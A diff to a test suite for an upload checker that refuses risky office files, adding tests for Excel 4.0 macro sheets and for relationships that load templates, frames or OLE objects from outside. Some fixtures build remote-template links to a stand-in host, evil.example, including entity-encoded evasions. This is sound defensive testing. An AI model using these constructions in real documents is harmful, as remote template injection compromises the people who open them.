@@ -130,7 +130,7 @@ def test_inspect_over_the_limit_names_the_limit(settings: Any) -> None:
     settings.UPLOAD_MAX_BYTES = 1024
     error = refusal(make.make_pdf(), "report.pdf")
     assert error.code == "too_large"
-    assert "1.0\xa0KB" in str(error.message)
+    assert "1\xa0kB" in str(error.message)
 
 
 def test_inspect_name_without_extension_gets_the_right_one() -> None:
@@ -336,6 +336,8 @@ def test_archive_random_damage_is_never_an_error_of_ours(seed: int) -> None:
     [
         (make.make_docx, "report.docx", "word/vbaProject.bin"),
         (make.make_xlsx, "table.xlsx", "xl/VBAPROJECT.BIN"),
+        (make.make_xlsx, "table.xlsx", "xl/macrosheets/sheet1.xml"),
+        (make.make_xlsx, "table.xlsx", "xl/intlMacrosheets/sheet1.xml"),
         (make.make_pptx, "slides.pptx", "ppt/vbaProject.bin"),
         (make.make_odt, "report.odt", "Basic/Standard/Module1.xml"),
         (make.make_ods, "table.ods", "Scripts/python/evil.py"),
@@ -372,6 +374,69 @@ def test_office_file_that_says_macro_enabled_in_any_spelling_is_refused(spelling
     enabled = types.replace("</Types>", f"{more}</Types>").replace("UTF-8", encoding)
     assert enabled.count(spelling) == 1
     assert refusal(changed(content, {TYPES: enabled.encode(encoding)}), "report.docx").code == "macros"
+
+
+@pytest.mark.parametrize("kind", ["macrosheet", "intlmacrosheet"])
+def test_office_file_with_a_sheet_of_macros_under_any_name_is_refused(kind: str) -> None:
+    """The macros of Excel 4.0, which are no VBA."""
+    content = make.make_xlsx()
+    types = zipfile.ZipFile(io.BytesIO(content)).read(TYPES)
+    more = (
+        f'<Override PartName="/xl/worksheets/sheet9.xml" ContentType="application/vnd.ms-excel.{kind}+xml"/>'
+    )
+    changed_types = types.replace(b"</Types>", more.encode() + b"</Types>")
+    assert changed_types != types
+    assert refusal(changed(content, {TYPES: changed_types}), "table.xlsx").code == "macros"
+
+
+def relationships(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" {mode}/>'
+        "</Relationships>"
+    ).encode()
+
+
+@pytest.mark.parametrize(
+    ("kind", "mode"),
+    [
+        ("attachedTemplate", 'TargetMode="External"'),
+        ("attached&#84;emplate", 'TargetMode="&#69;xternal"'),
+        ("frame", 'TargetMode="External"'),
+        ("subDocument", 'TargetMode="External"'),
+        ("oleObject", 'TargetMode = "External"'),
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_office_file_that_loads_a_part_from_elsewhere_is_refused(kind: str, mode: str, encoding: str) -> None:
+    links = relationships(kind, "https://evil.example/t.dotm", mode).decode().encode(encoding)
+    content = changed(make.make_docx(), {"word/_rels/Extra.XML.RELS": links})
+    assert refusal(content, "report.docx").code == "loads_from_elsewhere"
+    assert refusal(make.make_zip({"inner.docx": content}), "data.zip").code == "loads_from_elsewhere"
+
+
+@pytest.mark.parametrize(
+    ("kind", "mode"),
+    [
+        ("hyperlink", 'TargetMode="External"'),
+        ("image", 'TargetMode="External"'),
+        ("oleObject", ""),
+        ("attachedTemplate", 'TargetMode="Internal"'),
+    ],
+)
+def test_office_file_with_ordinary_links_is_taken(kind: str, mode: str) -> None:
+    links = relationships(kind, "https://example.org/", mode)
+    assert inspect(changed(make.make_docx(), {"word/_rels/extra.xml.rels": links}), "report.docx")
+
+
+@pytest.mark.parametrize("links", [b"<Relationships", b"<Relationships/>" + b" " * archives.MAX_LINK_BYTES])
+def test_office_file_whose_links_cannot_be_read_is_refused(links: bytes) -> None:
+    content = changed(make.make_docx(), {"word/_rels/extra.xml.rels": links})
+    assert refusal(content, "report.docx").code == "damaged"
+
+
+def test_plain_archive_may_hold_any_links() -> None:
+    assert inspect(make.make_zip({"a.rels": relationships("frame", "x"), "b.rels": b"<x"}), "data.zip")
 
 
 @pytest.mark.filterwarnings("ignore:Duplicate name")
